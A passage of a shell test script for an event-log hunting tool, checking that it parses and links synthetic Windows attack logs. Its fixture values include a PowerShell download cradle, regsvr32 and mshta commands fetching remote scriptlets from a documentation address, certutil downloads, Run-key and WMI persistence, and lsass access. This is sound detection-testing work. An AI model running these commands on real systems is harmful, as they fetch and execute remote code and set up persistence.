#!/bin/sh
# cmd-sources.sh -- the execution sources end to end over testdata/wks03
# (testdata/make-wks03.py): script blocks joined from parts logged out of
# order and with a part lost, services (4697, 7045), a task's XML action,
# DNS queries and a file drop, a WMI subscription (Sysmon 19/20/21,
# WMI-Activity 5861) whose consumer's command runs, an lsass access (Sysmon
# 10) and a remote thread (8) by their source, registry events (12-14), a
# stream (15) and pipes (17, 18) by their process, a driver (6) by none,
# Task Scheduler runs (106, 129, 200, 201: a process tied to its 129
# without a 4698, once with one); their --db columns
# and process links; the report's context (started by, script, activity,
# subscription, ran) and coverage; a host with only script blocks,
# services or WMI consumers is examinable (not exit 3).
set -u
. "$top_srcdir/tests/testlib.sh"
RULES=$top_srcdir/rules
W=$TD/wks03

# -- dump: kinds and normalised columns
expect 0 "dump wks03" "$EVTXHUNT" dump -q --db "$T/d.db" "$W"
"$PY" - "$T/d.db" <<'PYEOF' && ok "event models in --db" || fail "event models in --db"
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
kinds = dict(db.execute("SELECT kind, count(*) FROM events GROUP BY kind"))
assert kinds == {"process": 11, "dns_query": 2, "file_create": 1,
                 "script_block": 5, "service": 2, "task": 12,
                 "powershell": 4, "wmi": 4, "process_access": 1,
                 "create_remote_thread": 1, "registry_event": 3,
                 "create_stream_hash": 1, "pipe_created": 2,
                 "driver_load": 1}, kinds
q = lambda sql: db.execute(sql).fetchall()
# the block of three parts logged 1, 3, 2: joined on part 1, in order
rows = q("SELECT record_id, script_part, script_text, script_note FROM events"
         " WHERE script_block_id LIKE '%0002}' ORDER BY record_id")
assert [r[1] for r in rows] == ["1/3", "3/3", "2/3"], rows
assert rows[0][2] == ("function Invoke-Stage {\r\n  $u = 'http://203.0.113.9"
    "/p.sct'\r\n  Start-Process regsvr32.exe -ArgumentList \"/s /n /u /i:$u"
    " scrobj.dll\"\r\n}\r\nInvoke-Stage\r\n"), rows[0][2]
assert rows[0][3] is None and rows[1][2] is None and rows[2][2] is None
# a block whose second part was lost
(note,) = q("SELECT script_note FROM events WHERE script_block_id LIKE"
            " '%0003}'")[0]
assert note == "partial: 1 of 2 parts (missing 2)", note
svc = q("SELECT event_id, service_name, image, command_line, start_type, user"
        " FROM events WHERE kind = 'service' ORDER BY event_id")
assert svc == [
    (4697, "WinUpdSvc", "C:\\Windows\\System32\\rundll32.exe",
     "C:\\Windows\\System32\\rundll32.exe C:\\Users\\Public\\u.dll,Start",
     "auto start", "LocalSystem"),
    (7045, "PrintHelper", "%COMSPEC%",
     "%COMSPEC% /c C:\\Windows\\System32\\mshta.exe http://203.0.113.9/s.hta",
     "demand start", "LocalSystem")], svc
task = q("SELECT task_name, image, command_line, user, pid FROM events"
         " WHERE kind = 'task' AND event_id = 4698")
assert task == [("\\Updater", "C:\\Windows\\System32\\regsvr32.exe",
    "C:\\Windows\\System32\\regsvr32.exe /s /u /i:http://203.0.113.9/t.sct"
    " scrobj.dll", "CORP\\bob", 5120)], task
dns = q("SELECT query_name, query_results, image FROM events"
        " WHERE kind = 'dns_query' ORDER BY time")
assert dns[1] == ("dl.example.test", "::ffff:203.0.113.10;",
                  "C:\\Windows\\System32\\certutil.exe"), dns
assert q("SELECT target_filename FROM events WHERE kind = 'file_create'") == \
    [("C:\\Users\\Public\\p.exe",)]
# Sysmon 10, 8: the source is the process, the target named
pa = q("SELECT event_id, process_guid, pid, image, user, target_process_guid,"
       " target_pid, target_image, granted_access, call_trace, start_address,"
       " start_module, start_function FROM events WHERE kind IN"
       " ('process_access', 'create_remote_thread') ORDER BY time")
g = "{C3D4E5F6-0307-65E9-0000-%012X}"
assert pa == [
    (10, g % 7, 4740, "C:\\Windows\\System32\\rundll32.exe",
     "NT AUTHORITY\\SYSTEM", g % 15, 668, "C:\\Windows\\System32\\lsass.exe",
     "0x1010", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|"
     "C:\\Users\\Public\\u.dll+1a2b", None, None, None),
    (8, g % 14, 5450, "C:\\Windows\\System32\\regsvr32.exe",
     "NT AUTHORITY\\SYSTEM", g % 1, 3300, "C:\\Windows\\explorer.exe", None,
     None, "0x00000000029B0000", "-", "-")], pa
# Sysmon 12-14: the registry columns; 14 logged without its ProcessGuid
RUN = ("HKU\\S-1-5-21-1111111111-2222222222-3333333333-1205\\Software"
       "\\Microsoft\\Windows\\CurrentVersion\\Run\\")
WD = "HKLM\\System\\CurrentControlSet\\Services\\WinDefend"
rg = q("SELECT event_id, event_type, process_guid, pid, image, target_object,"
       " details, new_name FROM events WHERE kind = 'registry_event'"
       " ORDER BY time")
R = "C:\\Windows\\System32\\rundll32.exe"
assert rg == [
    (13, "SetValue", g % 7, 4740, R, RUN + "Updater",
     R + ' "C:\\Users\\Public\\u.dll",Start', None),
    (12, "DeleteValue", g % 7, 4740, R, RUN + "OneDrive", None, None),
    (14, "RenameKey", None, 4740, R, WD, None, WD + ".old")], rg
# Sysmon 15: the stream, its Hash split, its Contents as logged
assert q("SELECT process_guid, target_filename, hashes, sha256, imphash,"
         " contents FROM events WHERE kind = 'create_stream_hash'") == [
    (g % 6, "C:\\Users\\Public\\p.exe:Zone.Identifier",
     "SHA256=%064X,IMPHASH=%032X" % (0x15, 0), "%064X" % 0x15, "0" * 32,
     "[ZoneTransfer]\r\nZoneId=3\r\nHostUrl=http://dl.example.test/p.exe"
     "\r\n")]
# Sysmon 17, 18: the pipe and what happened to it
assert q("SELECT event_id, event_type, process_guid, pid, pipe_name FROM"
         " events WHERE kind = 'pipe_created' ORDER BY time") == [
    (17, "CreatePipe", g % 2, 4410,
     "\\PSHost.133540000000000000.4410.DefaultAppDomain.powershell"),
    (18, "ConnectPipe", g % 5, 4520, "\\msagent_a1b2")]
# Sysmon 6: the driver, its hashes and signature; no process
assert q("SELECT process_guid, pid, image_loaded, md5, sha1, sha256, imphash,"
         " signed, signature, signature_status FROM events"
         " WHERE kind = 'driver_load'") == [
    (None, None, "C:\\Windows\\System32\\drivers\\wdfltr.sys", "%032X" % 6,
     "%040X" % 6, "%064X" % 6, "%032X" % 6, 0, "-", "Unavailable")]
# 4103, Windows PowerShell 400 / 800: the host's command line, what ran
ps = q("SELECT event_id, image, command_line, script_text, ps_host_name,"
       " ps_host_version, ps_engine_version FROM events"
       " WHERE kind = 'powershell' ORDER BY time")
cradle = ("powershell.exe -nop -w hidden -c \"IEX (New-Object "
          "Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\"")
iex = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
assert [r[:3] for r in ps] == [(400, "powershell.exe", cradle),
    (4103, "powershell.exe", cradle), (800, "powershell.exe", cradle),
    (400, None, None)], ps
assert ps[1][3].startswith("CommandInvocation(Invoke-Expression)"), ps
assert ps[0][3:] == (None, "ConsoleHost", "5.1.19041.1", "5.1.19041.1"), ps
assert ps[2][3] == iex, ps
# the 2.0 engine (a downgrade) logs no HostApplication
assert ps[3][3:] == (None, "ConsoleHost", "2.0", "2.0"), ps
# WMI: unquoted, unescaped; a filter, consumer and binding join by name
wmi = q("SELECT event_id, wmi_operation, wmi_filter, wmi_consumer,"
        " wmi_consumer_class, wmi_namespace, wmi_query, image, command_line,"
        " user FROM events WHERE kind = 'wmi' ORDER BY time")
reg = ("C:\\Windows\\System32\\regsvr32.exe /s /n /u "
       "/i:http://203.0.113.9/w.sct scrobj.dll")
query = ("SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE "
         "TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND "
         "TargetInstance.SystemUpTime >= 240")
img = "C:\\Windows\\System32\\regsvr32.exe"
cl = "CommandLineEventConsumer"
assert wmi == [
    (19, "Created", "SysPerfMon", None, None, "root\\cimv2", query, None,
     None, "CORP\\bob"),
    (20, "Created", None, "SysPerfMon", cl, None, None, img, reg,
     "CORP\\bob"),
    (21, "Created", "SysPerfMon", "SysPerfMon", cl, None, None, None, None,
     "CORP\\bob"),
    (5861, None, "SysPerfMon", "SysPerfMon", cl, "root\\cimv2", query, img,
     reg, None)], wmi
# the join evtxhunt-db(5) shows
j = q("""SELECT b.computer, b.wmi_filter, f.wmi_query, c.command_line
FROM events b
JOIN events f ON f.kind = 'wmi' AND f.event_id = 19
  AND f.computer = b.computer AND f.wmi_filter = b.wmi_filter
JOIN events c ON c.kind = 'wmi' AND c.event_id = 20
  AND c.computer = b.computer AND c.wmi_consumer = b.wmi_consumer
WHERE b.kind = 'wmi' AND b.event_id = 21""")
assert j == [("WKS03.corp.local", "SysPerfMon", query, reg)], j
assert q("PRAGMA user_version") == [(5,)]
PYEOF

# -- scan: findings with their context
expect 1 "scan wks03" "$EVTXHUNT" scan -r "$RULES" --db "$T/s.db" "$W"
cp "$T/out" "$T/report.txt"
has() {
	grep -F -q -- "$2" "$T/report.txt" && ok "$1" ||
	    { fail "$1: no '$2'"; }
}
# (lines wrap at 100 columns: fragments of one line each)
has "regsvr32 shows the script block that ran it" \
    "script    2024-03-07T09:01:02.1000000Z script block {7A1C0D2E-0307-4C55-9D1A-000000000002} 1/3:"
has "the joined block, in order" \
    "regsvr32.exe -ArgumentList \"/s /n /u /i:\$u scrobj.dll\" } Invoke-Stage"
has "certutil shows its partial script block" \
    "[partial: 1 of 2 parts (missing 2)]: & certutil.exe -urlcache -split -f"
has "certutil's DNS query" \
    "activity  2024-03-07T09:05:00.6000000Z dns dl.example.test -> ::ffff:203.0.113.10;"
has "certutil's file drop" \
    "          2024-03-07T09:05:01.7000000Z file C:\\Users\\Public\\p.exe"
has "rundll32 started by its service (4697)" \
    "started   2024-03-07T09:10:01.0000000Z service WinUpdSvc (auto start, LocalSystem):"
has "regsvr32 started by the task" \
    "started   2024-03-07T09:15:00.6000000Z task \\Updater created by CORP\\bob:"
has "regsvr32 started by the WMI consumer" \
    "started   2024-03-07T09:25:00.3500000Z wmi binding registered: filter SysPerfMon -> consumer"
has "coverage counts the sources" \
    "execution script blocks: 5, powershell 4103: 1, services: 2, tasks: 1,"
has "coverage counts WMI" "1, wmi (19-21, 5861): 4"
"$PY" - "$T/s.db" <<'PYEOF' && ok "process links in --db" || fail "process links in --db"
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
rows = db.execute("""SELECT e.image, o.kind, s.script_block_id
    FROM processes p JOIN events e ON e.id = p.event
    LEFT JOIN events o ON o.id = p.origin
    LEFT JOIN events s ON s.id = p.script
    WHERE p.origin IS NOT NULL OR p.script IS NOT NULL
    ORDER BY e.time""").fetchall()
b = "{7A1C0D2E-0307-4C55-9D1A-00000000000%d}"
assert rows == [("C:\\Windows\\System32\\regsvr32.exe", None, b % 2),
    ("C:\\Windows\\System32\\certutil.exe", None, b % 3),
    ("C:\\Windows\\System32\\rundll32.exe", "service", None),
    ("C:\\Windows\\System32\\cmd.exe", "service", None),
    ("C:\\Windows\\System32\\regsvr32.exe", "task", None),
    ("C:\\Windows\\System32\\regsvr32.exe", "wmi", None),
    ("C:\\Windows\\System32\\regsvr32.exe", "task", None)], rows
# the consumer host's own start is not the consumer's action
n = db.execute("""SELECT count(*) FROM processes p JOIN events e
    ON e.id = p.event WHERE e.image LIKE '%scrcons.exe'
    AND p.origin IS NULL""").fetchone()[0]
assert n == 1, n
acts = db.execute("""SELECT e.image, pe.kind FROM process_events pe
    JOIN events e ON e.id = pe.process WHERE pe.kind IN
    ('dns_query', 'file_create', 'task') ORDER BY pe.event""").fetchall()
assert acts == [("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "dns_query"), ("C:\\Windows\\System32\\certutil.exe", "dns_query"),
    ("C:\\Windows\\System32\\certutil.exe", "file_create"),
    ("C:\\Windows\\System32\\schtasks.exe", "task")], acts
# 4103 names the cradle's command line as its host's
n = db.execute("""SELECT count(*) FROM process_events pe JOIN events e
    ON e.id = pe.process WHERE pe.kind = 'powershell'
    AND e.image LIKE '%powershell.exe'""").fetchone()[0]
assert n == 3, n
# Sysmon 10 and 8 are activity of their source process, by guid
g = "{C3D4E5F6-0307-65E9-0000-%012X}"
acts = db.execute("""SELECT e.process_guid, pe.kind FROM process_events pe
    JOIN events e ON e.id = pe.process WHERE pe.kind IN
    ('process_access', 'create_remote_thread') ORDER BY pe.event""").fetchall()
assert acts == [(g % 7, "process_access"), (g % 14, "create_remote_thread")], \
    acts
# 12-15, 17, 18 are activity of their process: by guid, 14 by computer,
# pid and time; the driver load of no process
acts = db.execute("""SELECT e.process_guid, pe.kind, ev.event_id FROM
    process_events pe JOIN events e ON e.id = pe.process
    JOIN events ev ON ev.id = pe.event WHERE pe.kind IN ('registry_event',
    'create_stream_hash', 'pipe_created', 'driver_load')
    ORDER BY ev.time""").fetchall()
assert acts == [(g % 7, "registry_event", 13), (g % 7, "registry_event", 12),
    (g % 7, "registry_event", 14), (g % 6, "create_stream_hash", 15),
    (g % 2, "pipe_created", 17), (g % 5, "pipe_created", 18)], acts
PYEOF
expect 1 "scan wks03 -f jsonl" "$EVTXHUNT" scan -q -f jsonl -r "$RULES" "$W"
"$PY" - "$T/out" <<'PYEOF' && ok "jsonl context" || fail "jsonl context"
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
cov = [h for r in rows if r.get("type") == "header" for h in r["coverage"]]
assert cov[0]["powershell_4104"] == 5 and cov[0]["tasks"] == 1, cov
assert cov[0]["powershell_4103"] == 1 and cov[0]["wmi"] == 4, cov
assert cov[0]["sysmon_8"] == 1 and cov[0]["sysmon_10"] == 1, cov
assert (cov[0]["sysmon_6"], cov[0]["sysmon_12_14"], cov[0]["sysmon_15"],
        cov[0]["sysmon_17_18"]) == (1, 3, 1, 2), cov
fs = [r for r in rows if r.get("type") == "finding"]
started = [f["context"]["started_by"]["kind"] for f in fs
           if f["context"]["started_by"]]
assert sorted(started) == ["service", "task", "task", "wmi"], started
assert all(f["context"]["subscription"] == [] for f in fs)
cu = [f for f in fs if "certutil" in (f["command_line"] or "")][0]
assert [a["kind"] for a in cu["context"]["activity"]] == \
    ["dns_query", "file_create", "create_stream_hash"], cu["context"]
assert cu["context"]["activity"][2]["summary"] == \
    "stream C:\\Users\\Public\\p.exe:Zone.Identifier: [ZoneTransfer]" \
    " ZoneId=3 HostUrl=http://dl.example.test/p.exe ", cu["context"]
assert cu["context"]["script"]["summary"].startswith("script block"), cu
PYEOF

# -- a finding on a process access: the source process's context
cat >"$T/lsass.yml" <<'EOF'
title: Test lsass opened for reading
id: 5d2e8a41-6c3b-4f7a-9e10-2b4c6d8e0f13
status: test
level: high
logsource:
    product: windows
    category: process_access
detection:
    selection:
        TargetImage|endswith: '\lsass.exe'
        GrantedAccess: '0x1010'
    condition: selection
EOF
expect 1 "process access rule" "$EVTXHUNT" scan -r "$T/lsass.yml" "$W"
grep -q "event     access to C:.Windows.System32.lsass.exe (pid 668) granted 0x1010" \
    "$T/out" && ok "process access finding shows the access" ||
    fail "no process access line"
grep -A6 "event     access to" "$T/out" | grep -q "started .* service WinUpdSvc" &&
    ok "process access finding shows its source's context" ||
    fail "no source context"
grep -A1 "activity  2024-03-07T09:32:00.1000000Z remote thread into C:.Windows.explorer.exe (pid 3300) at" \
    "$T/out" | grep -q "0x00000000029B0000 (-!-)" && ok "remote thread in its source's activity" ||
    fail "no remote thread activity"
grep -q "remote threads (8): 1," "$T/out" && ok "coverage counts 8 and 10" ||
    fail "coverage without 8 and 10"
tr -d '\n' <"$T/out" | tr -s ' ' | grep -q "drivers (6): 1, registry (12-14): 3, streams (15): 1, pipes (17, 18): 2" &&
    ok "coverage counts 6, 12-14, 15, 17/18" || fail "coverage without 6 to 18"

# -- findings on a Run key set and a driver load: their one line, the
# setter's context, the value's quotes escaped in JSON
cat >"$T/run.yml" <<'EOF'
title: Test Run key set to rundll32
id: 7e1f2a3b-4c5d-4e6f-8a9b-0c1d2e3f4a5b
status: test
level: high
logsource:
    product: windows
    category: registry_set
detection:
    selection:
        TargetObject|contains: '\CurrentVersion\Run\'
        Details|contains: 'rundll32'
    condition: selection
EOF
cat >"$T/drv.yml" <<'EOF'
title: Test unsigned driver
id: 8f2a3b4c-5d6e-4f70-9b1c-2d3e4f5a6b7c
status: test
level: high
logsource:
    product: windows
    category: driver_load
detection:
    selection:
        Signed: 'false'
    condition: selection
EOF
expect 1 "registry and driver rules" "$EVTXHUNT" scan -r "$T/run.yml" \
    -r "$T/drv.yml" "$W"
# (lines wrap at 100 columns)
grep -q 'event     registry set HKU.S-1-5-21-1111111111-2222222222-3333333333-1205.Software.Microsoft.Win' \
    "$T/out" && ok "registry finding shows the value set" ||
    fail "no registry line"
grep -A8 "event     registry set" "$T/out" | grep -q "started .* service WinUpdSvc" &&
    ok "registry finding shows its process's context" ||
    fail "no registry context"
grep -q "event     driver loaded C:.Windows.System32.drivers.wdfltr.sys (signed: false, Unavailable)" \
    "$T/out" && ok "driver finding shows the driver" || fail "no driver line"
grep -A8 "activity  2024-03-07T09:31:00.1000000Z access to" "$T/out" |
    grep -q "2024-03-07T09:33:02.1000000Z registry rename" &&
    ok "the rename (no guid) in its process's activity" ||
    fail "no rename activity"
expect 1 "registry rule -f jsonl" "$EVTXHUNT" scan -q -f jsonl -r "$T/run.yml" "$W"
"$PY" - "$T/out" <<'PYEOF' && ok "registry finding in jsonl" || fail "registry finding in jsonl"
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
fs = [r for r in rows if r.get("type") == "finding"
      and r["source"] == "rule"]
assert len(fs) == 1 and fs[0]["kind"] == "registry_event", fs
assert fs[0]["event"]["summary"].endswith(
    '\\Run\\Updater = C:\\Windows\\System32\\rundll32.exe '
    '"C:\\Users\\Public\\u.dll",Start'), fs[0]["event"]
assert fs[0]["context"]["started_by"]["kind"] == "service", fs[0]["context"]
PYEOF

# -- a finding on a service: the processes its action started
cat >"$T/svc.yml" <<'EOF'
title: Test service running mshta through the command interpreter
id: 0c7e3f52-5a1b-4d6e-9f20-3b8a4c1d2e70
status: test
level: high
logsource:
    product: windows
    service: system
detection:
    selection:
        EventID: 7045
        ImagePath|contains: 'mshta.exe http'
    condition: selection
EOF
expect 1 "service rule" "$EVTXHUNT" scan -r "$T/svc.yml" "$W"
grep -q "event     service PrintHelper (demand start, LocalSystem):" "$T/out" &&
    ok "service finding shows the service" || fail "no service line"
grep -q "ran       2024-03-07T09:12:00.1000000Z C:.Windows.system32.cmd.exe /c" \
    "$T/out" && ok "service finding shows what it ran" || fail "no ran line"

# -- a finding on a WMI consumer: its subscription and what it ran
cat >"$T/wmi.yml" <<'EOF'
title: Test WMI consumer running a remote scriptlet
id: 4d1f7a20-8b3c-4e5d-a6f7-0c1d2e3f4a5b
status: test
level: high
logsource:
    product: windows
    category: wmi_event
detection:
    selection:
        EventID: 20
        Destination|contains: '/i:http'
    condition: selection
EOF
expect 1 "WMI consumer rule" "$EVTXHUNT" scan -r "$T/wmi.yml" "$W"
for l in "event     wmi consumer SysPerfMon (CommandLineEventConsumer, Created):" \
    "wmi       2024-03-07T09:25:00.1000000Z wmi filter SysPerfMon (Created, root" \
    "2024-03-07T09:25:00.3000000Z wmi binding Created: filter SysPerfMon -> consumer" \
    "2024-03-07T09:25:00.3500000Z wmi binding registered: filter SysPerfMon" \
    "ran       2024-03-07T09:30:00.1000000Z C:\\Windows\\System32\\regsvr32.exe /s /n /u"; do
	grep -q -F -- "$l" "$T/out" && ok "WMI finding: $l" ||
	    fail "WMI finding: no '$l'"
done
expect 1 "WMI consumer rule -f jsonl" "$EVTXHUNT" scan -q -f jsonl \
    -r "$T/wmi.yml" "$W"
"$PY" - "$T/out" <<'PYEOF' && ok "WMI jsonl context" || fail "WMI jsonl context"
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
fs = [r for r in rows if r.get("type") == "finding" and r["kind"] == "wmi"]
assert len(fs) == 1 and fs[0]["event_id"] == 20, fs
c = fs[0]["context"]
assert [e["summary"].split(" ")[1] for e in c["subscription"]] == \
    ["filter", "binding", "binding"], c
assert [p["image"] for p in c["ran"]] == \
    ["C:\\Windows\\System32\\regsvr32.exe"] and c["ran_total"] == 1, c
PYEOF
# SigmaHQ's WMI rules fire on these samples
if [ -n "${SHARED_DIR:-}" ] && [ -d "$SHARED_DIR/sigma-full/rules" ]; then
	S=$SHARED_DIR/sigma-full/rules/windows
	expect 1 "SigmaHQ WMI rules" "$EVTXHUNT" scan -q -f jsonl \
	    -r "$S/wmi_event/sysmon_wmi_event_subscription.yml" \
	    -r "$S/builtin/wmi/win_wmi_persistence.yml" "$W"
	"$PY" - "$T/out" <<'PYEOF' && ok "SigmaHQ WMI rules fire" || fail "SigmaHQ WMI rules"
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
ids = sorted(r["event_id"] for r in rows if r.get("type") == "finding"
             and "baseline" not in r["rule_id"])
assert ids == [19, 20, 21, 5861], ids
PYEOF
fi

# -- html: the page's data carries the sources and its code renders them
expect 1 "scan wks03 -f html" "$EVTXHUNT" scan -q -f html -r "$RULES" \
    -o "$T/r.html" "$W"
expect 1 "service rule -f html" "$EVTXHUNT" scan -q -f html -r "$T/svc.yml" \
    -o "$T/svc.html" "$W"
"$PY" - "$T/r.html" "$T/svc.html" <<'PYEOF' && ok "html context" || fail "html context"
import json, re, sys
def page(path):
    h = open(path, encoding="utf-8").read()
    m = re.search(r'<script type="application/json" id="evh-data">(.*?)'
                  r'</script>', h, re.S)
    code = re.findall(r'<script>(.*?)</script>', h, re.S)[-1]
    return json.loads(m.group(1)), code
d, code = page(sys.argv[1])
cs = [x["context"] for x in d["items"] if x.get("context")]
assert sorted(c["started_by"]["kind"] for c in cs if c["started_by"]) == \
    ["service", "task", "task", "wmi"], cs
assert any(len(c["task"]) == 3 for c in cs), cs
assert any(c["script"] and c["script"]["summary"].startswith(
    "script block {7A1C0D2E-0307-4C55-9D1A-000000000002} 1/3:") for c in cs)
assert any([a["kind"] for a in c["activity"]] == ["dns_query",
    "file_create", "create_stream_hash"] for c in cs), cs
# the detail view reads each key, as text (no innerHTML anywhere)
for k in ("c.started_by", "c.script", "c.activity", "c.activity_total",
          "c.ran", "c.ran_total", "'started by'", "'script'",
          "c.subscription", "c.task"):
    assert k in code, k
assert "innerHTML" not in code and "insertAdjacentHTML" not in code
d, code = page(sys.argv[2])
ran = [p for x in d["items"] if x.get("context") for p in
       x["context"]["ran"]]
assert [p["image"] for p in ran] == ["C:\\Windows\\System32\\cmd.exe"], ran
PYEOF

# -- coverage and exit 3: PowerShell or services alone are examinable
expect 0 "only PowerShell/Operational: examined, nothing found" \
    "$EVTXHUNT" scan -r "$RULES" "$W/wks03-powershell.evtx"
grep -q "\[partial\]" "$T/out" && ok "script-block host is partial" ||
    fail "script-block host not partial"
grep -q "only PowerShell, services, tasks" "$T/out" &&
    ok "coverage says what was examined" || fail "coverage sentence"
expect 0 "Windows PowerShell 400/800 alone: examined (HostApplication)" \
    "$EVTXHUNT" scan -r "$RULES" "$W/wks03-windows-powershell.evtx"
grep -q -F "windows powershell (400, 800): 3" "$T/out" &&
    ok "coverage counts Windows PowerShell" ||
    fail "coverage: no Windows PowerShell count"
expect 0 "Windows PowerShell 400/800 -a -f jsonl" "$EVTXHUNT" scan -q -a \
    -f jsonl -r "$RULES" "$W/wks03-windows-powershell.evtx"
"$PY" - "$T/out" <<'PYEOF' && ok "Windows PowerShell lines" || fail "Windows PowerShell lines"
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
cov = [h for r in rows if r.get("type") == "header" for h in r["coverage"]]
assert cov[0]["powershell_classic"] == 3 and cov[0]["powershell_4103"] == 0
s = [r["event"]["summary"] for r in rows if r.get("kind") == "powershell"]
assert s[0].startswith("powershell engine 5.1.19041.1 (ConsoleHost) in "
                       "powershell.exe: powershell.exe -nop"), s
assert s[1] == ("powershell pipeline in powershell.exe: IEX (New-Object "
                "Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"), s
assert s[2] == "powershell engine 2.0 (ConsoleHost) [downgrade]: ?", s
PYEOF
expect 0 "only services: examined" "$EVTXHUNT" scan -r "$RULES" \
    "$W/wks03-system.evtx"
expect 0 "only a WMI consumer with its command: examined" "$EVTXHUNT" \
    scan -r "$RULES" "$W/wks03-wmi.evtx"
grep -q "and WMI consumers were examined" "$T/out" &&
    ok "coverage says the WMI consumer was examined" ||
    fail "coverage sentence (WMI)"
expect 3 "DNS and file events alone are not examinable" "$EVTXHUNT" scan \
    -r "$RULES" "$TD/ignored-events.evtx"

# -- -a: every event of the sources on the timeline, in one line each
expect 1 "scan -a" "$EVTXHUNT" scan -a -r "$RULES" "$W"
grep -q "task \\\\Updater created by CORP\\\\bob" "$T/out" &&
    ok "task on the timeline" || fail "no task line on the timeline"
for l in "wmi filter SysPerfMon (Created," "wmi consumer SysPerfMon" \
    "wmi binding Created: filter SysPerfMon ->" \
    "wmi binding registered: filter SysPerfMon"; do
	grep -q -F "$l" "$T/out" && ok "timeline: $l" ||
	    fail "no '$l' on the timeline"
done
expect 1 "scan -a -f jsonl" "$EVTXHUNT" scan -q -a -f jsonl -r "$RULES" "$W"
"$PY" - "$T/out" <<'PYEOF' && ok "later parts point at the first" || fail "later part line"
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
ev = {r["record_id"]: r for r in rows if r.get("kind") == "script_block"}
assert ev[203]["event"]["summary"].endswith(
    " 3/3: (text in the block's first part)"), ev[203]
assert ev[202]["event"]["summary"].endswith("} Invoke-Stage "), ev[202]
PYEOF
# -- Task Scheduler/Operational (wks03-taskscheduler.evtx): \Upd registered
# by 106 alone, its run (129, 200, 201) starting regsvr32 /i:http... as a
# 4688 child of svchost (wks03-security-tasks.evtx); \Updater's run, which
# Security 4698 also logs
expect 0 "dump task scheduler" "$EVTXHUNT" dump -q --db "$T/ts.db" \
    "$W/wks03-taskscheduler.evtx"
"$PY" - "$T/ts.db" <<'PYEOF' && ok "task scheduler columns" || fail "task scheduler columns"
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
r = db.execute("""SELECT event_id, task_name, user, image, command_line,
    target_pid, task_instance_id, result_code, pid FROM events
    WHERE task_name = '\\Upd' ORDER BY time""").fetchall()
rs = "C:\\Windows\\System32\\regsvr32.exe"
i = "{5E1D2C3B-0307-4A1B-9C8D-000000000002}"
assert r == [(106, "\\Upd", "CORP\\bob", None, None, None, None, None, None),
    (129, "\\Upd", None, rs, rs, 5660, None, None, None),
    (200, "\\Upd", None, rs, rs, 5660, i, None, None),
    (201, "\\Upd", None, rs, None, 5660, i, 2147942401, None),
    (140, "\\Upd", "CORP\\bob", None, None, None, None, None, None),
    (141, "\\Upd", "CORP\\bob", None, None, None, None, None, None)], r
assert {k for (k,) in db.execute("SELECT DISTINCT kind FROM events")} == \
    {"task"}
PYEOF
expect 0 "the Task Scheduler log alone is examinable" "$EVTXHUNT" scan \
    -r "$RULES" "$W/wks03-taskscheduler.evtx"
grep -q "task scheduler: 11" "$T/out" &&
    ok "coverage counts the Task Scheduler" || fail "no Task Scheduler coverage"
expect 1 "scan wks03 --db (task runs)" "$EVTXHUNT" scan -r "$RULES" \
    --db "$T/ts2.db" "$W"
cp "$T/out" "$T/report.txt"
has "regsvr32 of \\Upd started by its 129" \
    "started   2024-03-07T09:45:00.1000000Z task \\Upd launched C:\\Windows\\System32\\regsvr32.exe (pid"
has "the run's registration (106)" \
    "task      2024-03-07T09:40:00.0000000Z task \\Upd registered by CORP\\bob"
has "the run's action start (200)" \
    "2024-03-07T09:45:00.1100000Z task \\Upd started C:\\Windows\\System32\\regsvr32.exe"
has "the run's completion, result in hex (201)" \
    "task \\Upd action completed, result 0x80070001 (instance"
has "\\Updater's regsvr32 shows its run beside the 4698" \
    "task      2024-03-07T09:20:00.0500000Z task \\Updater launched C:\\Windows\\System32\\regsvr32.exe"
has "coverage counts the Task Scheduler events" ", task scheduler: 11"
"$PY" - "$T/ts2.db" <<'PYEOF' && ok "task runs linked once in --db" || fail "task runs in --db"
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
r = db.execute("""SELECT e.event_id, e.pid, o.event_id, o.task_name
    FROM processes p JOIN events e ON e.id = p.event
    JOIN events o ON o.id = p.origin WHERE o.kind = 'task'
    ORDER BY e.time""").fetchall()
# \Updater's process keeps its 4698 (no second link to the 129)
assert r == [(1, 5230, 4698, "\\Updater"), (4688, 5660, 129, "\\Upd")], r
PYEOF
expect 1 "scan wks03 -f jsonl (task runs)" "$EVTXHUNT" scan -q -f jsonl \
    -r "$RULES" "$W"
"$PY" - "$T/out" <<'PYEOF' && ok "jsonl task context" || fail "jsonl task context"
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
cov = [h for r in rows if r.get("type") == "header" for h in r["coverage"]]
assert cov[0]["taskscheduler"] == 11 and cov[0]["tasks"] == 1, cov
fs = [r for r in rows if r.get("type") == "finding" and r["event_id"] == 4688]
assert len(fs) == 1, fs
c = fs[0]["context"]
assert c["started_by"]["record_id"] == 506, c
assert [e["record_id"] for e in c["task"]] == [505, 507, 508], c
PYEOF
cat > "$T/ts.yml" <<'EOF'
title: regsvr32 launched by a scheduled task
id: 5e1d2c3b-0307-4a1b-9c8d-0000000000aa
logsource:
    product: windows
    service: taskscheduler
detection:
    selection:
        EventID: 129
        Path|endswith: '\regsvr32.exe'
    condition: selection
level: medium
EOF
expect 1 "taskscheduler rule" "$EVTXHUNT" scan -q -f jsonl -r "$T/ts.yml" "$W"
"$PY" - "$T/out" <<'PYEOF' && ok "a 129 finding shows what it ran and its run" || fail "129 finding"
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
fs = {r["record_id"]: r for r in rows if r.get("type") == "finding"
